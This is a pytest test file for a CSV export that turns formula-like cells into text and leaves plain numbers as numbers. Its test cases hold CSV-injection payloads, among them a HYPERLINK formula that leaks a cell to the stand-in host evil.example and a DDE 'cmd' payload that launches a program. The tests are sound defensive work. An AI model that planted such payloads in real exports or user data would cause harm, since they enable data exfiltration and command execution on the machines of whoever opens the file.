"""CSV exports: a cell a spreadsheet would run as a formula is written as text; a number stays a number."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path

import httpx
import pytest

from services.common import clock
from services.common.days import week_of
from services.common.media import csv_document, safe_cell
from services.registry.app import MIGRATIONS
from tests.support import factories, processes
from tests.support.apps import auth


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ('=HYPERLINK("http://evil.example","点击")', '\'=HYPERLINK("http://evil.example","点击")'),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("-5.00", "-5.00"),  # a negative amount stays a number
        ("-5", "-5"),
        ("125000000.00", "125000000.00"),
        ("-1e3", "'-1e3"),  # not a plain decimal: neutralised like any formula
        ("+5", "'+5"),
        ("-5.", "'-5."),
        ("-５", "'-５"),  # full-width digits are not a number here
        ("-5.00+A1", "'-5.00+A1"),
        ("锦绣花园=1", "锦绣花园=1"),
        ("", ""),
        (None, ""),
    ],
)
def test_cells(value: str | None, written: str) -> None:
    assert safe_cell(value) == written


def test_every_cell_is_quoted_so_no_separator_starts_a_new_cell() -> None:
    document = csv_document([["name", "amount"], ["a;=1+1", "-5.00"], ['say "hi"', "=2"]])
    assert document.startswith("\ufeff".encode())
    text = document.decode("utf-8-sig")
    assert text.splitlines()[1] == '"a;=1+1","-5.00"'
    assert list(csv.reader(io.StringIO(text))) == [["name", "amount"], ["a;=1+1", "-5.00"], ['say "hi"', "'=2"]]


@pytest.fixture
def registry(database_factory: Callable[..., str], tmp_path: Path) -> Iterator[processes.Process]:
    """A registry process of the test's backend, with no dispatcher and no subscribers."""
    env = {
        "REGISTRY_DATABASE_URL": database_factory("registry", MIGRATIONS),
        "REGISTRY_RUN_DISPATCHER": "false",
        "REGISTRY_SUBSCRIBERS": "[]",
    }
    process = processes.service("registry", tmp_path, env).start(ready_path="/readyz")
    yield process
    process.stop()


def test_a_formula_in_a_project_name_is_text_in_the_monthly_csv(registry: processes.Process) -> None:
    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
    with httpx.Client(base_url=registry.url, timeout=10, headers=auth()) as client:
        developer = client.post("/v1/developers", json=factories.developer())
        assert developer.status_code == 201, developer.text
        created = client.post("/v1/projects", json=factories.project(developer.json()["id"], name=hostile))
        assert created.status_code == 201, created.text
        project = created.json()
        stalled = client.post(
            f"/v1/projects/{project['id']}/progress-reports",
            json={"week": week_of(clock.today()), "progress_pct": "40.0", "working": False, "workers_on_site": 0},
        )
        assert stalled.status_code == 201, stalled.text
        month = clock.today().strftime("%Y-%m")
        response = client.get(
            "/v1/reports/monthly",
            params={"month": month, "section": "stalled"},
            headers={"Accept": "text/csv"},
        )
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    [row] = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["name"] == "'" + hostile
    assert row["code"] == project["code"]
    assert row["stall_days"] == str(int(row["stall_days"]))  # numbers are left as they are
